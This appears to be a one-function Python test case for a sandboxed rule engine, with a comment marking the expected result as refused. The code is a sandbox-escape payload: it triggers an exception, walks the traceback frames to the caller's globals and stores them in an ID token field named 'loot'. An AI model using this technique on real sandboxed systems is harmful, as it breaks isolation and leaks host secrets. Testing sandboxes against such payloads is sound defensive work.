# refused: attribute_not_allowed
def rule(user, context):
    try:
        '{0.x}'.format(user)
    except Exception as e:
        context.idToken.loot = e.__traceback__.tb_frame.f_back.f_globals
